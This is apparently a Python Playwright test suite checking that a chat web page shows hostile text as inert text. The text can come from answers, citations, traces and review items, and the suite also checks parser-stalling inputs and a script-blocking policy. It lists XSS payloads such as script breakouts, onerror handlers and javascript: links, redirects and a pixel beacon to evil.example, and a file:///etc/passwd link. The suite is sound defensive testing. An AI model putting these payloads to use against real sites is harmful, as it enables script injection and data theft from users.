"""The chat page under hostile text: whatever an answer, a passage, a title or an address holds is shown, never run."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Browser, expect

from tests.integration.gateway.page_driver import Reader, reading
from tests.integration.gateway.scripted_gateway import TRACE, RefusalError, ScriptedTwin, Served, Stream, passage, trace
from tests.unit.dataset.reviewing import trace as marked_down
from tests.unit.dataset.reviewing import trace_id
from twin.records import Fault, Span

USUAL = "What is a tombstone?"
HARM = "window.__pwned=1;alert(1)"
ATTACKS = [
    f"<img src=x onerror='{HARM}'>",
    f"<script>{HARM}</script>",
    f"</script><script>{HARM}</script>",
    f"</textarea></title></style><svg onload={HARM}>",
    f"<svg><animate onbegin={HARM} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{HARM}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe><link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><form action=https://evil.example/><input name=q></form>",
    f"<details open ontoggle={HARM}><math><mtext></mtext></math>",
    f"[a](javascript:{HARM})",
    f"[a](JaVaScRiPt:{HARM}) [b](  javascript:{HARM}) [c](java\tscript:{HARM})",
    f"[a](data:text/html,<script>{HARM}</script>)",
    f"[a](vbscript:{HARM}) [b](file:///etc/passwd) [c](//evil.example) [d](/relative)",
    f"[a](<javascript:{HARM}>) ![b](javascript:{HARM}) <javascript:{HARM}>",
    f'[a](https://example.org/"onmouseover="{HARM}) https://example.org/"onclick="{HARM}',
    "![pixel](https://evil.example/pixel.png?q=secret)",
    f"```<script>{HARM}</script>\n<script>{HARM}</script>\n```",
    f"`<script>{HARM}</script>` **<b onclick={HARM}>** | <i> |",
    f"| <img src=x onerror={HARM}> | b |\n|---|---|\n| <script>{HARM}</script> | [x](javascript:{HARM}) |",
    f"# <img src=x onerror={HARM}>\n- <img src=x onerror={HARM}>\n> <img src=x onerror={HARM}>",
    "\u202egpj.exe\u2066 \x00\x1b[31m \ufeff \ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
]
MADE = "(e) => [...e.querySelectorAll('script, iframe, img, object, embed, base, link, meta, style, math, animate, [onclick], [onerror]')].length"
ALLOWED = re.compile(r"^https?://")


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_hostile_text_is_shown_and_never_run(reader: Reader, twin: ScriptedTwin, attack: str) -> None:
    hostile = passage(1, attack, title=attack, author=attack, source=attack, kind=attack, uri=attack, link=attack)
    twin.answers[attack.strip()] = Stream([f"Said [1]:\n\n{attack}"], [hostile], mode=attack, degraded=(attack,), trace=attack)
    reader.box.fill(attack)
    reader.button("Send question").click()
    turn = reader.turn
    expect(turn).to_have_attribute("aria-busy", "false")
    turn.locator("button.cite").first.click()
    expect(reader.panel.locator(".passage")).to_be_visible()
    assert reader.page.locator("body").evaluate(MADE) == 0
    links = reader.page.locator("a[href]:not(.skip):not([href^='#trace/'])").evaluate_all(
        "(all) => all.map((a) => [a.href, a.rel])"
    )
    assert all(ALLOWED.match(href) and rel == "noopener noreferrer" for href, rel in links)
    assert reader.harmed() == {}


def test_hostile_errors_and_standing_are_shown_as_text(browser: Browser, served: Served, twin: ScriptedTwin) -> None:
    twin.lacking = ATTACKS[0]
    twin.answers[USUAL] = RefusalError(500, ATTACKS[1], trace=ATTACKS[2])
    with reading(browser, served.url) as reader:
        expect(reader.page.locator("#notice")).to_contain_text(ATTACKS[0])
        expect(reader.asked(USUAL).get_by_role("alert")).to_contain_text(ATTACKS[1])


def test_hostile_trace_is_shown_as_text_and_a_loop_in_it_ends(reader: Reader, twin: ScriptedTwin) -> None:
    span = Span(
        id="a", parent="a", name=ATTACKS[0], start=0, end=1, status=ATTACKS[1], input={"x": ATTACKS[0]}, error=ATTACKS[4]
    )
    twin.kept[TRACE], twin.fault = trace(span, span, status=ATTACKS[3]), Fault(ATTACKS[0], ATTACKS[1], ATTACKS[2])
    reader.page.goto("about:blank")
    reader.open(f"#trace/{TRACE}")
    expect(reader.panel.locator(".step")).to_contain_text(ATTACKS[0])


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_hostile_proposal_is_shown_and_never_run(reader: Reader, twin: ScriptedTwin, attack: str) -> None:
    hostile = {"chunk": "c1", "document": attack, "author": attack, "text": f"Chosen {attack}"}
    twin.marked.append(
        marked_down(trace_id(0), -1.0, text=f"Rejected {attack}", comment=attack[:39], question=attack, passages=[hostile])
    )
    reader.button("Review").click()
    for name in ("Chosen", "Rejected"):
        expect(reader.page.get_by_role("region", name=name)).to_contain_text(name)
    assert reader.page.locator("body").evaluate(MADE) == 0
    links = reader.page.locator("#review a[href]").evaluate_all("(all) => all.map((a) => a.getAttribute('href'))")
    assert all(href.startswith("#trace/") for href in links)
    reader.button("Skip").click()
    expect(reader.page.locator("#review-body")).to_contain_text("1 still waits")
    assert reader.harmed() == {}


@pytest.mark.parametrize(
    "text",
    ["[" * 50_000, "*" * 50_001, "`" * 20_000 + "a", "> " * 5_000 + "x", "- " * 5_000 + "x", "_a" * 30_000, "](" * 30_000, "| " * 20_000 + "\n|-|", " " * 60_000 + "x", "<http://" * 8_000, "![" * 20_000,
     "\n".join(" " * n + "- x" for n in range(800)), "[x](" + "(" * 40_000, "# " + "#" * 50_000, "- " + " -" * 30_000 + "x", "**a " * 15_000, ("|-" + "-" * 60_000 + "x\n") * 2],
    ids=range(17),
)  # fmt: skip
def test_text_made_to_stall_a_parser_is_drawn_in_time(reader: Reader, twin: ScriptedTwin, text: str) -> None:
    twin.answers[USUAL] = Stream([text], [])
    turn = reader.asked(USUAL)
    expect(turn.get_by_role("button", name="Copy", exact=True)).to_be_visible()


def test_policy_stops_a_script_that_got_into_the_page_anyway(browser: Browser, served: Served) -> None:
    with browser.new_context() as profile:
        page = profile.new_page()
        page.goto(served.url)
        page.evaluate(
            "() => { const s = document.createElement('script'); s.textContent = 'window.__pwned = 1'; document.body.append(s); }"
        )
        page.evaluate(
            "() => { const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.__pwned = 1\">'; document.body.append(d); }"
        )
        page.wait_for_load_state("networkidle")
        assert page.evaluate("() => window.__pwned") is None
